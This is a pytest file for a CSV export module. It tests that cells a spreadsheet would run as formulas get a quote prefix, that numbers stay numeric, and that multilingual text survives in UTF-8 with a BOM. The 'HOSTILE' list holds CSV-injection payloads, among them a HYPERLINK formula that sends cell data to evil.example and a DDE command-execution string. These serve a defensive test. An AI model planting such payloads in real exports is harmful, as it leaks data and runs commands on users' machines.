"""bot.spreadsheet, the one CSV writer: formula-safe text cells, numbers kept as numbers, UTF-8 with a BOM."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from bot.spreadsheet import FORMULA_STARTS, csv_bytes, read_csv, safe_cell

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_quote_in_front(text: str) -> None:
    (header, row) = read_csv(csv_bytes(["comment"], [[text]]))
    assert header == ["comment"] and row == ["'" + text]


def test_every_start_that_owasp_lists_is_covered() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_STARTS)


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is() -> None:
    data = csv_bytes(["a", "b", "c", "d", "e", "f", "g"],
                     [[-3, -2.5, Decimal("-1.50"), "-3", None, date(2026, 11, 18), "a = b, \"quoted\""]])
    rows = read_csv(data)
    assert rows[1] == ["-3", "-2.5", "-1.50", "'-3", "", "2026-11-18", 'a = b, "quoted"']
    assert b"\r\n-3,-2.5,-1.50,'-3,,2026-11-18," in data  # numbers unquoted, unprefixed
    assert safe_cell(-3) == -3 and safe_cell(True) == "yes"


def test_the_file_is_utf8_with_a_bom_and_keeps_every_script() -> None:
    text = ["ชำระเงินไม่ได้", "پرداخت خطا می‌دهد", "Обслуживание", "通知が多すぎます", "👍 Yes"]
    data = csv_bytes(text, [text])
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [text, text]
